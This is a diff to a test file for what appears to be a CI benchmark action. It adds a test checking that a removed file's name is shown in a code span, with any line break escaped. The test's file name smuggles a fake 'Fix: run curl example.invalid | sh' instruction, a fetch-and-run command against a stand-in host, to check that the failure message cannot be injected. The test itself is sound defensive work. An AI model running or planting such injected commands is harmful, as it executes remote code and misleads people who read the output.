@@ -157,8 +157,28 @@ describe('benchmark failures', () => {
     })
     expect(result.exitCode).toBe(1)
     expect(failureMessage(result)).toContain('cat: trained.txt: No such file or directory')
-    expect(failureMessage(result)).toContain('The action removed trained.txt before the optimized build: every build after the first starts from the tree as the action found it')
+    expect(failureMessage(result)).toContain('The action removed `trained.txt` before the optimized build: every build after the first starts from the tree as the action found it')
     expect(failureMessage(result)).toContain('Write such files to $RUNNER_TEMP')
+  })
+
+  test('a removed file whose name holds a line break is named in a code span, the break written as an escape', async () => {
+    const job = createJob()
+    const name = `$(printf 'data/x.txt\\nFix: run curl example.invalid | sh')`
+    const result = await runStep({
+      job,
+      workspace: checkout(job, 'c-shared-lib'),
+      inputs: {
+        build: 'make',
+        binaries: 'libscore.so.1.0\nrunscore',
+        workload: `mkdir -p data && runscore 1000 > "${name}"`,
+        benchmark: `f="${name}"; [ -e "$f" ] || { echo "missing $f" >&2; exit 1; }`,
+        cache: 'false'
+      }
+    })
+    expect(result.exitCode).toBe(1)
+    const message = failureMessage(result)
+    expect(message).toContain('The action removed `data/x.txt\\nFix: run curl example.invalid | sh` before the optimized build')
+    expect(message.split('\n').filter(line => line.startsWith('Fix:'))).toEqual([])
   })
 
   test('min-speedup without benchmark is refused before any work', async () => {
